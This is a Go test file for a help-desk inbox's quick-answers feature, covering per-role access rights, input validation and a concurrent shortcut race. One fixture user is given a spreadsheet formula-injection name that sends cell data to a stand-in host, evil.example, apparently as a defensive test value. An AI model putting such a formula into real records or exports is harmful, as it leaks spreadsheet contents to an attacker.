package inbox_test

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/profhub/profhub/hub/hubtest"
	"github.com/profhub/profhub/inbox"
	"github.com/profhub/profhub/internal/security/access"
	"github.com/profhub/profhub/org"
)

// twoUnits is a federation with two committees, A and B, each with a
// manual line and an API channel. Line A is answered by op1 and op2 and
// supervised by sup, an ordinary operator who belongs to unit B; line B is
// answered by opB.
type twoUnits struct {
	n              *hubtest.Node
	unitA, unitB   org.Unit
	lineA, lineB   inbox.Line
	chA, chB       inbox.Channel
	chTokA, chTokB string
	users          map[string]org.User // by login
	tokens         map[string]string   // API tokens by login
}

// hostileName is a name a spreadsheet would run as a formula.
const hostileName = `=HYPERLINK("http://evil.example/?leak="&A1,"Иванова")`

func newTwoUnits(t *testing.T) *twoUnits {
	t.Helper()
	ctx := context.Background()
	n := hubtest.Start(t)
	w := &twoUnits{n: n, users: map[string]org.User{}, tokens: map[string]string{}}
	w.unitA = n.AddUnit(t, "", org.Committee, "Обком А")
	w.unitB = n.AddUnit(t, "", org.Committee, "Обком Б")
	for _, u := range []struct {
		login, name string
		role        access.Role
		unit        string
	}{
		{"op1", "Петров Пётр", access.Operator, w.unitA.ID},
		{"op2", hostileName, access.Operator, w.unitA.ID},
		{"sup", "Смирнова Ольга", access.Operator, w.unitB.ID},
		{"opb", "Борисов Борис", access.Operator, w.unitB.ID},
		{"chaira", "Председатель А", access.Chairman, w.unitA.ID},
		{"admina", "Админ А", access.Administrator, w.unitA.ID},
		{"boss", "Главный", access.Administrator, n.Root.ID},
	} {
		hash, err := n.Auth.HashPassword("password-" + u.login)
		if err != nil {
			t.Fatal(err)
		}
		user, err := n.Org.CreateUser(ctx, n.System, org.NewUser{Login: u.login, FullName: u.name, Role: u.role, UnitID: u.unit, PasswordHash: hash})
		if err != nil {
			t.Fatal(err)
		}
		w.users[u.login] = user
		if w.tokens[u.login], _, err = n.Auth.CreateToken(ctx, n.System, user.ID, "test", 0); err != nil {
			t.Fatal(err)
		}
	}
	w.lineA, w.chA, w.chTokA = w.addLine(t, "Линия А", w.unitA.ID,
		inbox.LineOperator{UserID: w.users["op1"].ID}, inbox.LineOperator{UserID: w.users["op2"].ID},
		inbox.LineOperator{UserID: w.users["sup"].ID, Supervisor: true})
	w.lineB, w.chB, w.chTokB = w.addLine(t, "+Линия Б", w.unitB.ID, inbox.LineOperator{UserID: w.users["opb"].ID})
	return w
}

func (w *twoUnits) addLine(t *testing.T, name, unitID string, ops ...inbox.LineOperator) (inbox.Line, inbox.Channel, string) {
	t.Helper()
	ctx := context.Background()
	l := inbox.DefaultLine()
	l.Name, l.UnitID, l.Mode, l.Operators = name, unitID, inbox.Manual, ops
	l, err := w.n.Inbox.Lines.Create(ctx, w.n.System, l)
	if err != nil {
		t.Fatal(err)
	}
	ch, tok, err := w.n.Inbox.Channels.Create(ctx, w.n.System, inbox.NewChannel{LineID: l.ID, Kind: inbox.KindAPI, Name: "Сайт " + name,
		Settings: map[string]string{"webhook_url": "http://127.0.0.1:1/unused"}})
	if err != nil {
		t.Fatal(err)
	}
	return l, ch, tok
}

// as calls the API as login and decodes a JSON answer into out (if not nil).
func (w *twoUnits) as(t *testing.T, login, method, path string, body, out any) int {
	t.Helper()
	code, raw := call(t, w.n.Server.URL, w.tokens[login], method, path, body)
	if out != nil && code < 300 {
		if err := json.Unmarshal(raw, out); err != nil {
			t.Fatalf("%s %s: %v in %s", method, path, err, raw)
		}
	}
	return code
}

func (w *twoUnits) auditCount(t *testing.T, action string) int {
	t.Helper()
	var n int
	if err := w.n.DB.QueryRow(`SELECT COUNT(*) FROM audit_log WHERE action = $1`, action).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

func shortcuts(qs []inbox.QuickAnswer) string {
	var s []string
	for _, q := range qs {
		s = append(s, q.Shortcut)
	}
	return strings.Join(s, ",")
}

func TestQuickAnswersRights(t *testing.T) {
	w := newTwoUnits(t)
	const base = "/api/v1/inbox/quick-answers"
	type answer = map[string]string
	create := []struct {
		who  string
		body answer
		want int
	}{
		{"op1", answer{"shortcut": "привет", "text": "Здравствуйте!"}, http.StatusCreated},
		{"op1", answer{"shortcut": "ПРИВЕТ", "text": "дубль"}, http.StatusConflict},
		{"op1", answer{"shortcut": "отпуск", "text": "Личный ответ про отпуск"}, http.StatusCreated},
		{"op2", answer{"shortcut": "привет", "text": "Добрый день"}, http.StatusCreated}, // someone else's personal set
		{"op1", answer{"line_id": w.lineA.ID, "shortcut": "x", "text": "operators do not keep line answers"}, http.StatusForbidden},
		{"sup", answer{"line_id": w.lineA.ID, "shortcut": "Отпуск", "text": "Отпуск — 28 дней."}, http.StatusCreated},
		{"sup", answer{"line_id": w.lineA.ID, "shortcut": "отпуск", "text": "дубль"}, http.StatusConflict},
		{"sup", answer{"line_id": w.lineB.ID, "shortcut": "y", "text": "sup sees line B, but does not supervise it"}, http.StatusForbidden},
		{"admina", answer{"line_id": w.lineA.ID, "shortcut": "адрес", "text": "ул. Ленина, 1"}, http.StatusCreated},
		{"admina", answer{"line_id": w.lineB.ID, "shortcut": "адрес", "text": "outside the subtree"}, http.StatusNotFound},
		{"chaira", answer{"line_id": w.lineA.ID, "shortcut": "z", "text": "supervising is not managing"}, http.StatusForbidden},
		{"op1", answer{"line_id": "no-such-line", "shortcut": "z", "text": "z"}, http.StatusNotFound},
	}
	ids := map[string]string{} // "who:shortcut" → id
	for _, tc := range create {
		var q inbox.QuickAnswer
		if code := w.as(t, tc.who, "POST", base, tc.body, &q); code != tc.want {
			t.Fatalf("%s creates %v: %d, want %d", tc.who, tc.body, code, tc.want)
		}
		ids[tc.who+":"+q.Shortcut] = q.ID
	}
	// Each sees their personal answers first, then those of their lines.
	list := []struct{ who, query, want string }{
		{"op1", "", "отпуск,привет,адрес,Отпуск"},
		{"op1", "?line_id=" + w.lineA.ID, "отпуск,привет,адрес,Отпуск"},
		{"op2", "", "привет,адрес,Отпуск"},
		{"opb", "", ""},
		{"chaira", "", "адрес,Отпуск"},
	}
	for _, tc := range list {
		var got struct {
			QuickAnswers []inbox.QuickAnswer `json:"quick_answers"`
		}
		if code := w.as(t, tc.who, "GET", base+tc.query, nil, &got); code != 200 || got.QuickAnswers == nil {
			t.Fatalf("%s lists: %d %v", tc.who, code, got.QuickAnswers)
		}
		if s := shortcuts(got.QuickAnswers); s != tc.want {
			t.Errorf("%s%s sees %q, want %q", tc.who, tc.query, s, tc.want)
		}
	}
	if code := w.as(t, "op1", "GET", base+"?line_id="+w.lineB.ID, nil, nil); code != http.StatusNotFound {
		t.Errorf("op1 lists line B: %d", code)
	}
	lineAnswer, personal := ids["sup:Отпуск"], ids["op1:привет"]
	change := []struct {
		who, method, id string
		body            answer
		want            int
	}{
		{"op1", "PUT", lineAnswer, answer{"shortcut": "Отпуск", "text": "x"}, http.StatusForbidden},
		{"op2", "PUT", personal, answer{"shortcut": "привет", "text": "x"}, http.StatusNotFound},
		{"op2", "DELETE", personal, nil, http.StatusNotFound},
		{"opb", "DELETE", lineAnswer, nil, http.StatusNotFound},
		{"op1", "PUT", personal, answer{"shortcut": "Привет-2", "text": "Здравствуйте, коллега!"}, http.StatusOK},
		{"op1", "PUT", personal, answer{"shortcut": "ОТПУСК", "text": "taken by op1's other answer"}, http.StatusConflict},
		{"op1", "PUT", personal, answer{"shortcut": "привет-2", "text": "own shortcut, other case"}, http.StatusOK},
		{"sup", "PUT", lineAnswer, answer{"shortcut": "АДРЕС", "text": "taken"}, http.StatusConflict},
		{"sup", "PUT", lineAnswer, answer{"shortcut": "отпуск_2026", "text": "Отпуск — 28 дней и 3 за стаж."}, http.StatusOK},
		{"sup", "PUT", lineAnswer, answer{"shortcut": "x", "text": "x", "line_id": w.lineB.ID}, http.StatusUnprocessableEntity},
		{"admina", "DELETE", ids["admina:адрес"], nil, http.StatusNoContent},
		{"op1", "DELETE", personal, nil, http.StatusNoContent},
		{"op1", "DELETE", personal, nil, http.StatusNotFound},
	}
	for _, tc := range change {
		if code := w.as(t, tc.who, tc.method, base+"/"+tc.id, tc.body, nil); code != tc.want {
			t.Fatalf("%s %s %v: %d, want %d", tc.who, tc.method, tc.body, code, tc.want)
		}
	}
	q, err := w.n.Inbox.QuickAnswers.List(context.Background(), w.n.System, w.lineA.ID)
	if err != nil || shortcuts(q) != "отпуск_2026" || q[0].LineName != "Линия А" {
		t.Fatalf("line A keeps %v (%v)", q, err)
	}
	// Line answers are audited, personal ones are nobody else's business.
	for action, want := range map[string]int{"quick_answer.create": 2, "quick_answer.update": 1, "quick_answer.delete": 1} {
		if got := w.auditCount(t, action); got != want {
			t.Errorf("%d %s entries, want %d", got, action, want)
		}
	}
}

func TestQuickAnswerValidation(t *testing.T) {
	w := newTwoUnits(t)
	sc := w.n.System
	sc.UserID, sc.UnitID = w.users["boss"].ID, w.n.Root.ID
	tests := []struct {
		name, shortcut, text string
		ok                   bool
	}{
		{"latin", "hello", "Hi", true},
		{"cyrillic, digits, _ and -", "Ответ_1-б", "Ответ", true},
		{"32 cyrillic letters", strings.Repeat("ж", 32), "Ответ", true},
		{"4000 bytes of text", "long", strings.Repeat("я", 2000), true},
		{"surrounding spaces are trimmed", "  trimmed ", "x", true},
		{"empty shortcut", "", "x", false},
		{"33 letters", strings.Repeat("ж", 33), "x", false},
		{"space inside", "two words", "x", false},
		{"slash", "/hello", "x", false},
		{"dot", "a.b", "x", false},
		{"empty text", "empty", "", false},
		{"blank text", "blank", " \n\t", false},
		{"4001 bytes of text", "longer", strings.Repeat("я", 2000) + "!", false},
		{"bad UTF-8", "utf", "\xff\xfe", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			q, err := w.n.Inbox.QuickAnswers.Create(context.Background(), sc, inbox.QuickAnswer{Shortcut: tc.shortcut, Text: tc.text})
			if tc.ok && (err != nil || q.ID == "" || q.OwnerID != sc.UserID || q.Shortcut != strings.TrimSpace(tc.shortcut)) {
				t.Fatalf("got %+v, %v", q, err)
			}
			if !tc.ok && err == nil {
				t.Fatalf("%q / %d bytes accepted", tc.shortcut, len(tc.text))
			}
		})
	}
}

// Two consoles saving the same shortcut at once: one wins, the other
// hears of the conflict (the check runs under a lock on both engines).
func TestQuickAnswerShortcutRace(t *testing.T) {
	w := newTwoUnits(t)
	const n = 8
	codes := make(chan int, 2*n)
	var wg sync.WaitGroup
	for i := range n {
		for _, who := range []string{"sup", "admina"} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				shortcut := "Взносы"
				if i%2 == 1 {
					shortcut = "взносы"
				}
				code, _ := call(t, w.n.Server.URL, w.tokens[who], "POST", "/api/v1/inbox/quick-answers",
					map[string]string{"line_id": w.lineA.ID, "shortcut": shortcut, "text": "Взносы — 1% заработка."})
				codes <- code
			}()
		}
	}
	wg.Wait()
	close(codes)
	created := 0
	for code := range codes {
		switch code {
		case http.StatusCreated:
			created++
		case http.StatusConflict:
		default:
			t.Errorf("concurrent create: %d", code)
		}
	}
	var rows int
	if err := w.n.DB.QueryRow(`SELECT COUNT(*) FROM inbox_quick_answers WHERE line_id = $1`, w.lineA.ID).Scan(&rows); err != nil {
		t.Fatal(err)
	}
	if created != 1 || rows != 1 {
		t.Fatalf("%d created, %d rows, want one", created, rows)
	}
}
